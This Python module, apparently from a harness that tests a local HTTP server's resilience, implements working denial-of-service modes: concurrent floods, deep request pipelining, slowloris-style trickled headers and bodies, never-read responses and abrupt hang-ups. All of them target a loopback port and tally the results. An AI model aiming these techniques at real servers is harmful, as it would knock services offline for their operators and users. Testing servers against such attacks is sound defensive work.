"""How requests are sent to hurt: alone, by a crowd, in a row, slowly, unread, and by who hangs up."""

import contextlib
import itertools
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from .client import ATTACKER_ADDRESS, Connection, Gone, Request

CONNECTIONS = 64
#: How long a lone request is waited for.
PATIENCE = 60
#: How long one of a crowd is waited for behind the end of the attack.
CROWD_PATIENCE = 10
#: Of one connection, sent before an answer is read.
PIPELINED = 200


@dataclass
class Attack:
    """A request, or one made for each time it is sent, and the manner in which a crowd sends it."""

    name: str
    request: Request | Callable[[int], Request]
    manner: str = "crowd"
    connections: int = CONNECTIONS
    #: From how many of this machine's addresses they come.
    addresses: int = 1
    #: How often it is sent in all; None for as often as there is time for.
    count: int | None = None
    #: Whether it is first measured alone.
    alone: bool = True
    #: Whether credentials are sent.
    credentials: bool = True

    def made(self, number=0):
        return self.request(number) if callable(self.request) else self.request

    def address(self, number):
        place = number % self.addresses
        return f"127.0.1.{place}" if place else ATTACKER_ADDRESS


class Tally:
    """What an attack has sent and got."""

    def __init__(self):
        self.sent = 0
        self.bytes = 0
        self.largest = 0
        self.statuses = Counter()
        self.lock = threading.Lock()

    def add(self, answer):
        with self.lock:
            self.bytes += answer.size
            self.largest = max(self.largest, answer.size)
            self.statuses[answer.status] += 1

    def fail(self, failure):
        with self.lock:
            self.statuses["timeout" if isinstance(failure, TimeoutError) else type(failure).__name__] += 1


def send_alone(attack, port, credentials):
    """The answer of one request; None if there was none."""
    connection = Connection(port, timeout=PATIENCE)
    request = attack.made()
    try:
        return connection.exchange(request.encoded(credentials), is_head=request.method == "HEAD")
    except (OSError, Gone):
        return None
    finally:
        connection.close()


def send_by_crowd(attack, port, credentials, seconds):
    """Attacks for so long, or until it is sent as often as it is to be; returns the tally."""
    tally, end = Tally(), time.monotonic() + seconds
    manners = {"slow": trickle, "slow body": trickle, "unread": leave_unread, "unread one": leave_unread}
    if attack.manner in manners:
        manners[attack.manner](attack, port, credentials, end, tally)
        return tally
    work = {"crowd": ask, "in a row": ask_in_a_row, "hang up": hang_up}[attack.manner]
    numbers = itertools.count(1) if attack.count is None else iter(range(1, attack.count + 1))
    taking = threading.Lock()

    def take():
        with taking:
            tally.sent += 1
            number = next(numbers, None)
            tally.sent -= number is None
            return number

    threads = [
        threading.Thread(
            target=work, args=(attack, (port, attack.address(number)), credentials, end, tally, take), daemon=True
        )
        for number in range(attack.connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.1, end + CROWD_PATIENCE - time.monotonic()))
    return tally


def ask(attack, place, credentials, end, tally, take):
    connection = Connection(*place, timeout=CROWD_PATIENCE)
    fixed = None if callable(attack.request) else attack.request.encoded(credentials)
    is_head = attack.made().method == "HEAD"
    while time.monotonic() < end and (number := take()) is not None:
        try:
            data = fixed or attack.made(number).encoded(credentials)
            tally.add(connection.exchange(data, is_head=is_head))
        except (OSError, Gone) as failure:
            tally.fail(failure)
            time.sleep(0.01)
    connection.close()


def ask_in_a_row(attack, place, credentials, end, tally, take):
    """Sends many requests, then reads the answers of as many."""
    request = attack.made()
    data = request.encoded(credentials)
    at_once = max(1, min(PIPELINED, (1 << 20) // len(data)))
    while time.monotonic() < end and take() is not None:
        connection = Connection(*place, timeout=CROWD_PATIENCE)
        try:
            sender = threading.Thread(target=send_quietly, args=(connection.open(), data * at_once), daemon=True)
            sender.start()
            for _ in range(at_once):
                tally.add(connection.receive(is_head=request.method == "HEAD"))
                if connection.socket is None:
                    break
        except (OSError, Gone) as failure:
            tally.fail(failure)
        finally:
            connection.close()
            sender.join()


def send_quietly(connection, data):
    with contextlib.suppress(OSError):
        connection.sendall(data)


def hang_up(attack, place, credentials, end, tally, take):
    """Sends a request whole, and is gone."""
    while time.monotonic() < end and (number := take()) is not None:
        connection = Connection(*place, timeout=5)
        try:
            connection.send(attack.made(number).encoded(credentials))
        except OSError as failure:
            tally.fail(failure)
        finally:
            connection.close()


def trickle(attack, port, credentials, end, tally):
    """A byte at a time on each connection: of the head, or of the body."""
    data = attack.made().encoded(credentials)
    whole = data.find(b"\r\n\r\n") + 4 if attack.manner == "slow body" else 0
    with contextlib.ExitStack() as stack:
        places = {}
        for number in range(attack.connections):
            with contextlib.suppress(OSError):
                connection = Connection(port, attack.address(number), timeout=5)
                stack.callback(connection.close)
                opened = connection.open()
                opened.sendall(data[:whole])
                opened.setblocking(False)
                places[opened] = whole
        tally.sent = len(places)
        while time.monotonic() < end and places:
            for opened, place in list(places.items()):
                try:
                    places[opened] += opened.send(data[place : place + 1])
                except BlockingIOError:
                    pass
                except OSError as failure:
                    tally.fail(failure)
                    del places[opened]
                if place >= len(data):
                    places.pop(opened, None)
            time.sleep(0.02)


def leave_unread(attack, port, credentials, end, tally):
    """Sends on each connection until nothing more is taken, or only once, and never reads."""
    request = attack.made().encoded(credentials)
    at_once = 1 if attack.manner == "unread one" else max(1, min(PIPELINED, (1 << 20) // len(request)))
    with contextlib.ExitStack() as stack:
        left = {}
        for number in range(attack.connections):
            with contextlib.suppress(OSError):
                connection = Connection(port, attack.address(number), timeout=5, receive_buffer=2048)
                stack.callback(connection.close)
                opened = connection.open()
                opened.setblocking(False)
                left[opened] = memoryview(request * at_once)
        tally.sent = len(left) * at_once
        while time.monotonic() < end:
            for opened, data in list(left.items()):
                try:
                    if data:
                        left[opened] = data[opened.send(data) :]
                except BlockingIOError:
                    pass
                except OSError as failure:
                    tally.fail(failure)
                    del left[opened]
            time.sleep(0.02)
